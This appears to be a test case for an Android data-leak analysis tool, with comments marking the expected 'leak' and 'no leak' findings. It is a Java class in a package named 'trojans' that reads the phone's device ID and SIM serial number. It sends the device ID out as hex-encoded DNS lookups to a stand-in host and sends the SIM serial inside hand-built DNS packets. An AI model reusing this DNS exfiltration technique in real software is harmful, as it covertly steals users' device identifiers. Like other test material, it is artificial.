package trojans;

import android.content.BroadcastReceiver;
import android.content.Context;
import android.content.Intent;
import android.telephony.TelephonyManager;
import java.net.DatagramPacket;
import java.net.DatagramSocket;
import java.net.InetAddress;
import java.net.MulticastSocket;
import java.nio.ByteBuffer;

/** A name of a host that says something, and packets made by hand. */
public class Dns extends BroadcastReceiver {
    private static final char[] DIGITS = "0123456789abcdef".toCharArray();

    static String hex(byte[] bytes) {
        char[] out = new char[bytes.length * 2];
        for (int i = 0; i < bytes.length; i++) {
            out[2 * i] = DIGITS[bytes[i] >> 4 & 15];
            out[2 * i + 1] = DIGITS[bytes[i] & 15];
        }
        return new String(out);
    }

    public void onReceive(Context context, Intent intent) {
        TelephonyManager phone = (TelephonyManager) context.getSystemService("phone");
        String id = phone.getDeviceId();
        String sim = phone.getSimSerialNumber();
        new Thread(() -> {
            try {
                InetAddress.getByName(hex(id.getBytes()) + ".t.example.invalid"); // leak
                InetAddress.getByName(hex("alive".getBytes()) + ".t.example.invalid"); // no leak
                InetAddress[] servers = InetAddress.getAllByName("ns.example.invalid"); // no leak
                packet(servers[0], sim);
            } catch (Exception e) {
                setResultCode(1);
            }
        }).start();
    }

    private void packet(InetAddress to, String text) throws Exception {
        ByteBuffer query = ByteBuffer.allocate(512);
        query.putShort((short) 0x1234).putShort((short) 0x100);
        for (String label : text.split("(?<=\\G.{8})")) {
            query.put((byte) label.length()).put(label.getBytes());
        }
        query.put((byte) 0);
        DatagramSocket socket = new DatagramSocket();
        DatagramPacket packet = new DatagramPacket(query.array(), query.position(), to, 53);
        socket.send(packet); // leak
        DatagramPacket answer = new DatagramPacket(new byte[512], 512);
        socket.receive(answer);
        answer.setAddress(to);
        socket.send(answer); // no leak
        MulticastSocket group = new MulticastSocket(5353);
        packet.setData(new byte[] {1, 2, 3});
        group.send(packet); // no leak
    }
}
